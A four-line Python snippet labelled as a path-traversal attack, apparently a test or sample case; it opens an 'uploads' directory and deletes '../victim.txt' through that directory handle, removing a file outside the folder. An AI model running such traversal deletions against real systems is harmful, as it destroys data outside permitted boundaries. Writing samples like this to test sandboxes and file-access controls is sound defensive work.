# attack: path-traversal
import os
folder = os.open("uploads", os.O_RDONLY)
os.unlink("../victim.txt", dir_fd=folder)
